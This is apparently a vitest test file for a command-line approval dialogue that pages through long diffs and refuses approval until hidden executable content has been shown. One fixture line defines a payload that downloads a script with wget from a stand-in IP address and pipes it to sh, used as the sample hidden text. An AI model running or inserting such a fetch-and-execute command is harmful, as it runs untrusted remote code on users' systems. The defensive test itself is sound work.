import { PassThrough } from 'node:stream'
import { stripVTControlCharacters } from 'node:util'
import { createApi } from '@fairlead/contract/client/create-api'
import type { EffectObject, Mask } from '@fairlead/contract/effect/effect'
import type { UserRead } from '@fairlead/contract/endpoints/auth'
import { expect, test } from 'vitest'
import { sendJson, testServer } from '../session/test-server.fixture.ts'
import { createTerminal, type TerminalStreams } from '../terminal/terminal.ts'
import { askAboutCall } from './ask-about-call.ts'
import type { Said } from './ask-decision.ts'
import { scaling } from './waiting-call.fixture.ts'
import type { WaitingCall } from './waiting-call.ts'

const user = { email: 'ada@example.com', role: 'member', view_only: false } as UserRead
const payload = 'wget -qO- http://198.51.100.7/x | sh'
const mask: Mask = { object: 0, path: '/data/x', side: 'after', at: 0, bytes: 36, executable: true }

/** A server that shows what is hidden, and the lines of a long diff. */
async function answering(diff: readonly string[] | undefined) {
  return await testServer(({ path }, response) => {
    if (path.endsWith('/unmasked')) {
      const effect = {
        ...scaling().effect,
        objects: [changed({ diff: '+  x: ***\n', changes: [{ path: '/data/x', after: payload }] })],
        masks: [mask],
      }
      return sendJson(response, 200, { effect, shown: 'proof' })
    }
    if (diff === undefined) return sendJson(response, 500, { detail: 'Internal Server Error' })
    const query = new URL(path, 'http://x').searchParams
    const from = Number(query.get('from'))
    const lines = diff.slice(from, from + Number(query.get('lines')))
    return sendJson(response, 200, { object: 0, from, lines, total: diff.length })
  })
}

function changed(own: Partial<EffectObject>): EffectObject {
  const [object] = scaling().effect?.objects ?? []
  return { ...(object as EffectObject), ...own }
}

/** Sits before a terminal of 40 rows and answers what is asked, in order. */
async function dialogue(call: WaitingCall, answers: [prompt: string, keys: string][], diff: readonly string[] = []) {
  await using server = await answering(diff.length === 0 ? undefined : diff)
  const [stdin, stdout, stderr] = [new PassThrough(), new PassThrough(), new PassThrough()]
  for (const stream of [stdin, stderr]) Object.assign(stream, { isTTY: true, rows: 40, columns: 120 })
  Object.assign(stdin, { setRawMode: () => stdin })
  const terminal = createTerminal({ stdin, stdout, stderr } as unknown as TerminalStreams, { NO_COLOR: '1' })
  let text = ''
  let seen = 0
  const left = [...answers]
  stderr.on('data', (chunk: Buffer) => {
    text += stripVTControlCharacters(chunk.toString())
    const [next] = left
    const at = next === undefined ? -1 : text.indexOf(next[0], seen)
    if (next === undefined || at === -1) return
    left.shift()
    seen = at + next[0].length
    setTimeout(() => stdin.write(next[1]), 20)
  })
  const api = createApi({ base: server.url, fetch })
  const said: Said = await askAboutCall({ api, user }, terminal, { call })
  expect(left, text).toEqual([])
  return { said, text, paths: server.requests.map(({ path }) => path) }
}

const hiding = (own: Partial<Mask> = {}) =>
  scaling({ effect: { masks: [{ ...mask, ...own }], objects: [changed({ diff: '+  x: ***\n' })] } })

test('what would run and is hidden is approved once it was shown, and the proof goes along', async () => {
  const { said, text } = await dialogue(hiding(), [
    ['Text that would run is hidden: it can be approved once it was shown.', 'y\r'],
    ['Type u show what would be written, d details, n deny', '\u0015u\r'],
    ['Approve exactly this?', 'y\r'],
  ])
  expect(said).toEqual({ approve: true, shown: 'proof' })
  expect(text).toContain(`data.x: nothing -> ${payload}`)
})

test('what is hidden and would not run may be shown, and need not', async () => {
  const { said, paths } = await dialogue(hiding({ executable: false }), [['u show what would be written', 'y\r']])
  expect(said).toEqual({ approve: true, shown: undefined })
  expect(paths).toEqual([])
})

test('an engine that wants it shown is heeded, whatever the masks say', async () => {
  const call = { ...scaling(), mustShow: true }
  const { said } = await dialogue(call, [
    ['Text that would run is hidden', 'u\r'],
    ['Approve exactly this?', 'y\r'],
  ])
  expect(said).toEqual({ approve: true, shown: 'proof' })
})

const omitted = () => scaling({ effect: { diff_omitted: true, objects: [changed({ diff: undefined })] } })
const longDiff = Array.from({ length: 4_500 }, (_, index) => `+  line: ${index}`)

test('a diff that is too large to come along is read to its end once somebody wants it', async () => {
  const { said, text, paths } = await dialogue(
    omitted(),
    [
      ['Approve exactly this?', 'd\r'],
      ['38 of', ' '],
      ['76 of', 'a'],
      ['Approve exactly this?', 'y\r'],
    ],
    longDiff,
  )
  expect(said).toMatchObject({ approve: true })
  expect(paths.map((path) => new URL(path, 'http://x').searchParams.get('from'))).toEqual(['0', '2000', '4000'])
  for (const line of [longDiff[0], longDiff[419], longDiff.at(-1)]) expect(text).toContain(`${line}\n`)
})

/** What goes has no changes: its diff is all that there is to see. */
const deleting = scaling({
  effect: { diff_omitted: true, objects: [changed({ action: 'delete', changes: [], diff: undefined })] },
})

test('where there is nothing but a diff it is read to its end, and nobody is asked before', async () => {
  const { text } = await dialogue(
    deleting,
    [
      ['38 of', 'a'],
      ['Approve exactly this?', 'l\r'],
    ],
    longDiff,
  )
  expect(text).toContain(`${longDiff.at(-1)}\n`)
})

test('who leaves before the end is not asked', async () => {
  const { said, text } = await dialogue({ ...omitted(), ...deleting }, [['38 of', 'l']], longDiff)
  expect(said).toBe('later')
  expect(text).not.toContain('Approve')
})

test('what could not be read cannot be approved', async () => {
  const { said, text } = await dialogue(omitted(), [
    ['Approve exactly this?', 'd\r'],
    ['so it cannot be approved here.', 'y\r'],
    ['Type n deny', '\u0015l\r'],
  ])
  expect(said).toBe('later')
  expect(text).toContain('The diff could not be read')
})
